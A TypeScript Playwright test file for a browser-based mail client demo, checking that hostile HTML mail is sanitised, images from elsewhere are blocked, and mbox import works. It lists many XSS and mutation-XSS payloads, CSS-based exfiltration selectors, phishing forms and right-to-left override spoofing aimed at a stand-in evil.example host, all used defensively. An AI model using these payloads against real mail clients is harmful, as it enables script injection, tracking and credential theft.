import { createServer, type AddressInfo, type Server } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { connect, lastRow, launch, openPage, typeLines } from "./open-page.ts";
import { violations } from "./violations.ts";

let browser: Browser;
/** Where hostile mail would like to be heard. */
let listener: Server;
let calls = 0;

beforeAll(async () => {
  browser = await launch();
  listener = createServer((socket) => {
    calls++;
    socket.destroy();
  });
  await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
});

afterAll(async () => {
  await browser.close();
  listener.close();
});

/** What mail may hold to run, to phone home or to deceive. */
const hostile: readonly (readonly [name: string, html: string])[] = [
  [
    "a script",
    "<script>top.hit=1</script><script src=//evil.example/x.js></script>",
  ],
  [
    "SVG onload",
    "<svg onload=top.hit=1><script>top.hit=1</script><use href=//evil.example/x.svg#a /></svg>",
  ],
  [
    "handlers",
    "<img src=x onerror=top.hit=1><body onload=top.hit=1><details open ontoggle=top.hit=1><b\nonclick\n=\n'top.hit=1'>x",
  ],
  [
    "mXSS through style",
    '<svg></p><style><a id="</style><img src=1 onerror=top.hit=1>">',
  ],
  [
    "mXSS through MathML",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hit=1>",
  ],
  [
    "mXSS through noscript",
    '<noscript><p title="</noscript><img src=x onerror=top.hit=1>">',
  ],
  [
    "mXSS through a comment",
    '<!-- <b title=" --><img src=x onerror=top.hit=1> " --><title><!--</title><img src=x onerror=top.hit=1>',
  ],
  [
    "a template",
    "<template><img src=x onerror=top.hit=1></template><template shadowrootmode=open><script>top.hit=1</script></template>",
  ],
  [
    "styles that phone home",
    '<style>@import url(//evil.example/a.css);b{background:url(//evil.example/b.png)}</style><b style="background:url(//evil.example/c.png)">x</b><link rel=stylesheet href=//evil.example/d.css><link rel=prefetch href=//evil.example/e>',
  ],
  [
    "images from elsewhere",
    '<img src=https://evil.example/a.png srcset="https://evil.example/b.png 2x"><table background=https://evil.example/c.png><tr><td background=https://evil.example/d.png>x</table><picture><source srcset=https://evil.example/e.png><img src=//evil.example/f.png></picture><video poster=https://evil.example/g.png src=https://evil.example/h.mp4></video><input type=image src=https://evil.example/i.png><image src=//evil.example/j.png>',
  ],
  [
    "javascript: and data: links",
    '<a href="javascript:top.hit=1">a</a><a href="java&#10;script:top.hit=1">b</a><a href="data:text/html,<script>top.hit=1</script>">c</a><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'top.hit=1\'/>"><area href=javascript:top.hit=1>',
  ],
  [
    "meta refresh and base",
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/><meta http-equiv=Content-Security-Policy content="img-src *"><img src=x.png>',
  ],
  [
    "forms",
    "<form action=https://evil.example/ id=f><input name=password type=password autofocus onfocus=top.hit=1><button>Send</button></form><button form=f formaction=javascript:top.hit=1>x</button>",
  ],
  [
    "frames and plugins",
    '<iframe src=https://evil.example/></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe><object data=https://evil.example/></object><embed src=https://evil.example/><frameset onload=top.hit=1>',
  ],
  [
    "clobbering",
    "<a id=document></a><form name=body><input name=attributes></form><img name=currentScript>",
  ],
  [
    "styles that ask for what they find",
    '<style>input[value^=a]{background:url(//evil.example/a)}@font-face{font-family:x;src:url(//evil.example/f)}:root{--x:url(//evil.example/v);content:var(--x)}</style><p style="background-image:image-set(url(//evil.example/i) 1x);list-style:url(//evil.example/l);cursor:url(//evil.example/c),auto;font-family:x">x</p><svg><style>*{fill:url(//evil.example/s)}</style></svg>',
  ],
  [
    "hints to fetch",
    "<link rel=preload as=image href=//evil.example/a><link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=//evil.example/m.js><link rel=icon href=//evil.example/i><link rel=manifest href=//evil.example/w>",
  ],
  [
    "pings and popups",
    "<a href=//evil.example/ ping=//evil.example/ping target=_top>x</a><a href=//evil.example/ download autofocus onfocus=top.hit=1 tabindex=0>x</a><marquee onstart=top.hit=1>x</marquee><dialog open oncancel=top.hit=1>x</dialog><p popover id=p>x</p><button popovertarget=p>x</button>",
  ],
  [
    "XML and processing instructions",
    '<?xml-stylesheet href="//evil.example/x.xsl"?><xml><x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>top.hit=1</x:script></x></xml><math href="javascript:top.hit=1"><maction actiontype=statusline xlink:href="javascript:top.hit=1">x</maction></math><annotation-xml encoding="text/html"><img src=x onerror=top.hit=1></annotation-xml>',
  ],
  [
    "depth",
    `${"<div>".repeat(3000)}<img src=x onerror=top.hit=1>${"</div>".repeat(3000)}${"<table><tr><td>".repeat(300)}<script>top.hit=1</script>`,
  ],
  [
    "words made of private characters",
    '<b>style= \ue000 onclick=</b><sty\ue000le>x</sty\ue000le><a href="java&#xe000;script:top.hit=1">x</a>',
  ],
];

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}

function mailOf(name: string, html: string): string {
  return [
    "From: \u202eelpmaxe.live@x\u202c <a@evil.example>",
    `Subject: ${name} <img src=x onerror=top.hit=1> \u202eexe.fdp`,
    "Content-Type: text/html; charset=utf-8",
    'Content-Disposition: inline; filename="<img src=x onerror=top.hit=1>"',
    "",
    `<p>before</p>${html}<p>after</p>`,
  ]
    .join("\n")
    .replaceAll("//evil.example", `//127.0.0.1:${portOf(listener)}`);
}

async function openInbox(page: Page): Promise<void> {
  await page.getByRole("tab", { name: /Laptop/ }).click();
  await connect(page);
  await typeLines(page, "LOGIN lucia gato.rojo", "SELECT INBOX");
  await lastRow(page, "server, a2, OK");
}

async function bring(
  page: Page,
  files: readonly { readonly name: string; readonly text: string }[],
): Promise<void> {
  const choose = page.getByLabel("Choose files");
  if ((await choose.count()) === 0) {
    await page.getByRole("button", { name: "Bring your own mail" }).click();
  }
  await choose.setInputFiles(
    files.map(({ name, text }) => ({
      name,
      mimeType: "message/rfc822",
      buffer: Buffer.from(text),
    })),
  );
}

async function openLast(page: Page): Promise<void> {
  const buttons = page
    .getByRole("table", { name: "Messages" })
    .getByRole("button");
  await buttons.first().focus();
  await page.keyboard.press("End");
  await page.keyboard.press("Enter");
  await page.getByRole("article", { name: "Message" }).waitFor();
}

/** Looks at the opened message in each tab: nothing of the sender's is obeyed. */
async function checkViews(page: Page, name: string): Promise<void> {
  const article = page.getByRole("article", { name: "Message" });
  const title = article.getByRole("heading").first();
  expect(await title.textContent()).toBe(
    `${name} <img src=x onerror=top.hit=1> ⟨202E⟩exe.fdp`,
  );
  expect(await article.getByText("⟨202E⟩elpmaxe").count()).toBe(1);
  const frame = article.locator("iframe");
  await frame.waitFor();
  expect(await frame.getAttribute("sandbox")).toBe("");
  const body = page.frameLocator("article iframe").locator("body");
  await body.getByText("before").waitFor();
  expect(
    await body.evaluate((element) =>
      [...element.querySelectorAll("*")]
        .flatMap((each) => [
          each.localName,
          ...each.getAttributeNames().map((attribute) => `@${attribute}`),
        ])
        .filter((found) =>
          /^(script|style|svg|math|form|input|button|iframe|object|embed|base|meta|link|template|video|@on.*|@style|@href|@srcset|@background|@action|@id|@name)$/.test(
            found,
          ),
        ),
    ),
  ).toEqual([]);
  expect(
    await body
      .locator("[src]")
      .evaluateAll((all) => all.map((each) => each.getAttribute("src"))),
  ).toEqual([]);

  await article.getByRole("tab", { name: "Source" }).click();
  const source = article.getByRole("region", { name: /^Source/ });
  await source.getByText("Subject:").waitFor();
  expect(await source.locator("img, script, svg").count()).toBe(0);

  await article.getByRole("tab", { name: "Parts" }).click();
  await article.getByRole("button", { name: /^1 / }).click();
  await article.getByText("<img src=x onerror=top.hit=1>").first().waitFor();

  expect(await page.evaluate(() => "hit" in window)).toBe(false);
}

describe("hostile mail harms nobody", () => {
  test("in any of its views", { timeout: 180_000 }, async () => {
    const { page, expectClean, close } = await openPage(browser);
    await openInbox(page);
    await bring(
      page,
      hostile.map(([name, html]) => ({
        name: `${name}.eml`,
        text: mailOf(name, html),
      })),
    );
    await page
      .getByText(`${hostile.length} messages delivered to INBOX.`)
      .waitFor();
    await page
      .getByRole("region", { name: "Your own mail" })
      .getByRole("button", { name: "Close" })
      .click();
    const subjects = page.getByRole("table", { name: "Messages" });
    await subjects.getByText("⟨202E⟩exe.fdp").first().waitFor();
    await openLast(page);
    for (const [name] of [...hostile].reverse()) {
      await checkViews(page, name);
      expect(expectClean, name).not.toThrow();
      await page.keyboard.press("Escape");
      await page.keyboard.press("ArrowUp");
      await page.keyboard.press("Enter");
    }
    expect(calls).toBe(0);
    await close();
  });

  test("links say where they would lead, and images that they weren't asked for", async () => {
    const { page, expectClean, close } = await openPage(browser);
    await openInbox(page);
    const html =
      '<a href="https://evil.example/login">https://bank.example</a> <img src=https://evil.example/a.png alt=logo><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=dot>';
    await bring(page, [{ name: "x.eml", text: mailOf("links", html) }]);
    await page.getByText("1 message delivered to INBOX.").waitFor();
    await openLast(page);
    const body = page.frameLocator("article iframe").locator("body");
    await body
      .getByText(
        `https://bank.example ⟨https://127.0.0.1:${portOf(listener)}/login⟩`,
      )
      .waitFor();
    await body.getByText("https://bank.example").click();
    await page
      .getByText(
        "1 image from elsewhere isn't loaded: it would tell the sender that you read this.",
      )
      .waitFor();
    expect(
      await body
        .locator("img[src]")
        .evaluateAll((all) => all.map((each) => each.getAttribute("alt"))),
    ).toEqual(["dot"]);
    expectClean();
    await close();
  });
});

test("images of the message itself are shown, and nobody is asked for them", async () => {
  const { page, expectClean, close } = await openPage(browser);
  await openInbox(page);
  const dot = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
  const image = (id: string, type: string) => [
    "--x",
    `Content-Type: ${type}`,
    `Content-ID: <${id}>`,
    "Content-Transfer-Encoding: base64",
    "",
    dot,
  ];
  const text = [
    "Subject: images",
    'Content-Type: multipart/related; boundary="x"',
    "",
    "--x",
    "Content-Type: text/html",
    "",
    "<img src=cid:dot@x alt=dot><img src=cid:svg@x alt=svg><img src=cid:no@x alt=no>",
    ...image("dot@x", "image/gif"),
    ...image("svg@x", "image/svg+xml"),
    "--x--",
  ].join("\n");
  await bring(page, [{ name: "x.eml", text }]);
  await page.getByText("1 message delivered to INBOX.").waitFor();
  await openLast(page);
  const images = page.frameLocator("article iframe").locator("img");
  await images.first().waitFor();
  await expect
    .poll(() =>
      images.evaluateAll((all) =>
        all.map((each) => [
          each.getAttribute("alt"),
          (each as HTMLImageElement).naturalWidth,
        ]),
      ),
    )
    .toEqual([
      ["dot", 1],
      ["svg", 0],
      ["no", 0],
    ]);
  expect(await page.getByText("from elsewhere").count()).toBe(0);
  expectClean();
  await close();
});

describe("one's own mail", () => {
  test("an mbox fills the open mailbox, and the session is told", async () => {
    const { page, expectClean, close } = await openPage(browser);
    await openInbox(page);
    await typeLines(page, "IDLE");
    const separator = "From x Thu Jun 13 08:00:00 2024\n";
    const mbox = Array.from(
      { length: 60 },
      (_, index) => `${separator}Subject: own ${index}\n\n>From me\n\n`,
    ).join("");
    await bring(page, [
      { name: "all.mbox", text: mbox },
      { name: "no.pdf", text: "%PDF-1.7" },
    ]);
    await page.getByText("60 messages delivered to INBOX.").waitFor();
    await page.getByText("no.pdf: doesn't look like mail").waitFor();
    await lastRow(page, "60 RECENT");
    await openLast(page);
    await page.getByRole("heading", { name: "own 59" }).waitFor();
    await page
      .getByRole("region", { name: "Text of the message" })
      .getByText("From me")
      .waitFor();
    expectClean();
    await close();
  });

  test("files can be dropped, and an open maildrop doesn't see them", async () => {
    const { page, expectClean, close } = await openPage(browser);
    await connect(page);
    await typeLines(page, "USER lucia", "PASS gato.rojo");
    await lastRow(page, "OK");
    await page
      .getByRole("region", { name: "Mailbox", exact: true })
      .evaluate((pane) => {
        const dataTransfer = new DataTransfer();
        dataTransfer.items.add(new File(["Subject: dropped\n\nx"], "x.eml"));
        const options = { dataTransfer, bubbles: true, cancelable: true };
        pane.dispatchEvent(new DragEvent("dragover", options));
        pane.dispatchEvent(new DragEvent("drop", options));
      });
    await page.getByText("1 message delivered to INBOX.").waitFor();
    await page.getByText("The open POP3 session doesn't see it").waitFor();
    await page.getByText("nothing is uploaded").waitFor();
    expectClean();
    await close();
  });
});

describe("the opened message", () => {
  test("a section is asked for from the tree of parts, and its octets are shown", async () => {
    const { page, expectClean, close } = await openPage(browser);
    await openInbox(page);
    const table = page.getByRole("table", { name: "Messages" });
    await table.getByRole("button", { name: "Factura de marzo" }).click();
    const article = page.getByRole("article", { name: "Message" });
    await article.getByRole("tab", { name: "Message" }).focus();
    await page.keyboard.press("End");
    await page.keyboard.press("ArrowLeft");
    await article.getByRole("button", { name: /^2 application\/pdf/ }).click();
    const put = article.getByRole("button", {
      name: /command box: FETCH \d+ BODY\[2\]/,
    });
    await put.click();
    const box = page.getByRole("textbox", { name: "Command" });
    expect(await box.inputValue()).toMatch(/^FETCH \d+ BODY\[2\]$/);
    await page.keyboard.press("Enter");
    await lastRow(page, "server, a3, OK");
    await article
      .getByRole("button", { name: "Show BODY[2.MIME] in the source" })
      .click();
    await article.getByText("Content-Disposition:").waitFor();
    await article.getByText("BODY[2.MIME]").waitFor();
    expectClean();
    await close();
  });

  test.each([
    { width: 1440, colorScheme: "light" },
    { width: 1440, colorScheme: "dark" },
    { width: 390, colorScheme: "light" },
    { width: 390, colorScheme: "dark" },
  ] as const)(
    "axe finds nothing at $width px, $colorScheme",
    async ({ width, colorScheme }) => {
      const { page, close } = await openPage(browser, {
        viewport: { width, height: 850 },
        colorScheme,
        // Axe must be put into the page, which forbids it.
        bypassCSP: true,
      });
      await openInbox(page);
      if (width < 640)
        await page.getByRole("button", { name: /^Mailbox/ }).click();
      await bring(page, [
        {
          name: "x.eml",
          text: mailOf("axe", "<img src=//evil.example/x.png>"),
        },
        { name: "y.eml", text: "" },
      ]);
      await page.getByText("1 message delivered to INBOX.").waitFor();
      expect(await violations(page)).toEqual([]);
      await page
        .getByRole("region", { name: "Your own mail" })
        .getByRole("button", { name: "Close" })
        .click();
      await openLast(page);
      for (const name of ["Message", "Source", "Parts"]) {
        await page.getByRole("article").getByRole("tab", { name }).click();
        expect(await violations(page), name).toEqual([]);
      }
      await close();
    },
  );
});
